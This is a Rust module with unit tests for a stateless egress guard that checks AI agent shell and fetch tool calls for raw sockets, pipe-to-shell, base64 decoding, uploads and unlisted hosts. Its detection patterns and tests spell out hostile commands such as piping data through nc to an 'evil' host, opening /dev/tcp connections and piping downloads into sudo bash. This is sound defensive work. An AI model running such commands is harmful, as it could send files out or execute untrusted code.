//! The egress guard: a stateless inspector for tools that reach the network or a shell (named
//! `shell`, `bash`, `http`, `http_request`, `fetch`, `webfetch` or `web_fetch`, in any case, or
//! ending in `_` plus one of those; Claude Code's `Bash` and `WebFetch`). It reads
//! `params.command` and `params.url`: raw sockets (`nc`, `ncat`, `netcat`, `/dev/tcp/`) are
//! denied; pipe-to-shell, base64 decoding, `curl -X POST`/`wget --post` and URLs whose host is
//! not on the allowlist are warnings, which become denials in strict mode or when a suspicious
//! pattern meets an unlisted host.

use serde_json::Value;

use super::rules::EgressConfig;
use super::{Finding, Severity, Source};

/// Hosts allowed by default: GitHub, the Rust, npm and Python registries, docs.rs. A host
/// matches an entry when it is the entry or a subdomain of it.
pub const DEFAULT_ALLOW_HOSTS: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "crates.io",
    "docs.rs",
    "npmjs.org",
    "npmjs.com",
    "pypi.org",
    "pythonhosted.org",
];

const GUARDED: &[&str] = &[
    "shell",
    "bash",
    "http",
    "http_request",
    "fetch",
    "webfetch",
    "web_fetch",
];

/// Shell words: split on whitespace and the operators that start a new command.
fn words(text: &str) -> Vec<&str> {
    text.split(|c: char| c.is_ascii_whitespace() || "|;&()`<>".contains(c))
        .filter(|w| !w.is_empty())
        .collect()
}

/// Plain scans rather than regexes: the hook is a new process per tool call, and compiling
/// five regexes cost ~2.5 ms of every call.
fn raw_socket(text: &str) -> bool {
    words(text)
        .iter()
        .any(|w| matches!(*w, "nc" | "ncat" | "netcat"))
}

fn pipe_to_shell(text: &str) -> bool {
    text.match_indices('|').any(|(at, _)| {
        let rest = &text[at + 1..];
        if rest.starts_with('|') || text[..at].ends_with('|') {
            return false;
        }
        let mut next = rest.split_ascii_whitespace();
        let first = next.next().unwrap_or_default();
        let program = if first == "sudo" {
            next.next().unwrap_or_default()
        } else {
            first
        };
        let program = program.rsplit('/').next().unwrap_or_default();
        matches!(program, "sh" | "bash" | "zsh" | "dash")
    })
}

fn base64_decode(text: &str) -> bool {
    words(text)
        .windows(2)
        .any(|pair| pair[0] == "base64" && matches!(pair[1], "-d" | "--decode" | "-D"))
}

fn upload(text: &str) -> bool {
    let w = words(text);
    let has = |word: &str| w.contains(&word);
    (has("curl")
        && (text.contains("-X POST")
            || text.contains("-XPOST")
            || has("-d")
            || w.iter().any(|x| x.starts_with("--data"))))
        || (has("wget") && w.iter().any(|x| x.starts_with("--post")))
}

/// The hosts of every `http(s)://`, `ftp://` and `ws(s)://` URL in the text.
fn url_hosts(text: &str) -> Vec<&str> {
    text.match_indices("://")
        .filter_map(|(at, _)| {
            let scheme_start = text[..at]
                .rfind(|c: char| !c.is_ascii_alphabetic())
                .map_or(0, |i| i + 1);
            let scheme = text[scheme_start..at].to_ascii_lowercase();
            if !matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
                return None;
            }
            let rest = &text[at + 3..];
            let authority_end = rest
                .find(|c: char| c == '/' || c == '?' || c == '#' || c.is_ascii_whitespace())
                .unwrap_or(rest.len());
            let authority = &rest[..authority_end];
            let host = authority.rsplit('@').next().unwrap_or_default();
            let host = if host.starts_with('[') {
                host.split(']')
                    .next()
                    .map(|h| &host[..h.len() + 1])
                    .unwrap_or(host)
            } else {
                host.split(':').next().unwrap_or_default()
            };
            Some(host)
        })
        .collect()
}

/// Whether the guard looks at this tool.
pub fn guards(tool: &str) -> bool {
    let lower = tool.to_ascii_lowercase();
    GUARDED
        .iter()
        .any(|name| lower == *name || lower.ends_with(&format!("_{name}")))
}

fn host_allowed(host: &str, config: &EgressConfig) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    DEFAULT_ALLOW_HOSTS
        .iter()
        .copied()
        .chain(config.allow_hosts.iter().map(String::as_str))
        .any(|allowed| {
            let allowed = allowed.to_ascii_lowercase();
            host == allowed || host.ends_with(&format!(".{allowed}"))
        })
}

fn finding(rule: &str, severity: Severity, reason: &str) -> Finding {
    Finding {
        source: Source::Egress,
        rule: format!("egress:{rule}"),
        severity,
        reason: reason.to_string(),
    }
}

/// Inspects one call; returns nothing for tools it does not guard.
pub fn inspect(tool: &str, params: &Value, config: &EgressConfig) -> Vec<Finding> {
    if !guards(tool) {
        return Vec::new();
    }
    let warn = if config.strict {
        Severity::Deny
    } else {
        Severity::Warn
    };
    let texts: Vec<&str> = ["command", "url"]
        .iter()
        .filter_map(|key| params.get(*key).and_then(Value::as_str))
        .collect();
    let mut findings = Vec::new();
    let mut suspicious = false;
    for text in &texts {
        if raw_socket(text) {
            findings.push(finding(
                "raw_socket",
                Severity::Deny,
                "opens a raw network connection (nc/ncat/netcat)",
            ));
        }
        if text.contains("/dev/tcp/") || text.contains("/dev/udp/") {
            findings.push(finding(
                "dev_tcp",
                Severity::Deny,
                "opens a network connection through /dev/tcp or /dev/udp",
            ));
        }
        for (hit, rule, reason) in [
            (
                pipe_to_shell(text),
                "pipe_to_shell",
                "pipes downloaded or generated text into a shell",
            ),
            (
                base64_decode(text),
                "base64_decode",
                "decodes base64, which can hide what runs",
            ),
            (upload(text), "upload", "sends data out with curl or wget"),
        ] {
            if hit {
                suspicious = true;
                findings.push(finding(rule, warn, reason));
            }
        }
    }
    let unlisted = texts
        .iter()
        .flat_map(|text| url_hosts(text))
        .any(|host| !host_allowed(host, config));
    if unlisted {
        let severity = if suspicious { Severity::Deny } else { warn };
        findings.push(finding(
            "unlisted_host",
            severity,
            "reaches a host that is not on the egress allowlist (add it under [egress] allow_hosts)",
        ));
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn severities(tool: &str, params: Value, config: &EgressConfig) -> Vec<(String, Severity)> {
        inspect(tool, &params, config)
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    #[test]
    fn egress_scanners_find_what_they_name() {
        assert!(
            raw_socket("x;nc -l 9") && raw_socket("(netcat h 1)") && !raw_socket("rsync nc-tool")
        );
        assert!(pipe_to_shell("curl x |sh") && pipe_to_shell("wget -O- x | sudo /bin/bash -s"));
        assert!(!pipe_to_shell("a || sh") && !pipe_to_shell("ls | shellcheck"));
        assert!(base64_decode("echo aGk= | base64 -d") && !base64_decode("base64 file"));
        assert!(upload("curl -X POST https://x") && upload("curl --data-binary @f x"));
        assert!(upload("wget --post-file=f x") && !upload("curl -sSf https://x"));
        assert_eq!(
            url_hosts(
                "curl https://u:p@Api.GitHub.com:443/x ws://[::1]:8/y HTTP://h.io?q mailto://n"
            ),
            ["Api.GitHub.com", "[::1]", "h.io"]
        );
    }

    #[test]
    fn egress_denies_raw_sockets_but_not_words_containing_nc() {
        let config = EgressConfig::default();
        assert_eq!(
            severities("Bash", json!({"command": "cat x | nc evil 9"}), &config),
            [("egress:raw_socket".to_string(), Severity::Deny)]
        );
        assert_eq!(
            severities(
                "shell",
                json!({"command": "exec 3<>/dev/tcp/h/80"}),
                &config
            ),
            [("egress:dev_tcp".to_string(), Severity::Deny)]
        );
        assert!(severities("Bash", json!({"command": "sync && rsync a b"}), &config).is_empty());
    }

    #[test]
    fn egress_warns_on_pipe_to_shell_and_strict_denies() {
        let params = json!({"command": "curl -sSf https://sh.rustup.rs | sh"});
        let relaxed = EgressConfig::default();
        assert_eq!(
            severities("Bash", params.clone(), &relaxed),
            [
                ("egress:pipe_to_shell".to_string(), Severity::Warn),
                ("egress:unlisted_host".to_string(), Severity::Deny)
            ],
            "a suspicious pattern plus an unlisted host denies"
        );
        let listed = EgressConfig {
            allow_hosts: vec!["rustup.rs".into()],
            strict: false,
        };
        assert_eq!(
            severities("Bash", params.clone(), &listed),
            [("egress:pipe_to_shell".to_string(), Severity::Warn)]
        );
        let strict = EgressConfig {
            strict: true,
            ..listed
        };
        assert_eq!(
            severities("Bash", params, &strict),
            [("egress:pipe_to_shell".to_string(), Severity::Deny)]
        );
    }

    #[test]
    fn egress_host_allowlist_covers_subdomains() {
        let config = EgressConfig::default();
        assert!(severities(
            "WebFetch",
            json!({"url": "https://raw.githubusercontent.com/a/b"}),
            &config
        )
        .is_empty());
        assert_eq!(
            severities(
                "WebFetch",
                json!({"url": "https://notgithub.com/x"}),
                &config
            ),
            [("egress:unlisted_host".to_string(), Severity::Warn)]
        );
        assert!(severities("memory_add_fact", json!({"url": "https://x.io"}), &config).is_empty());
    }
}
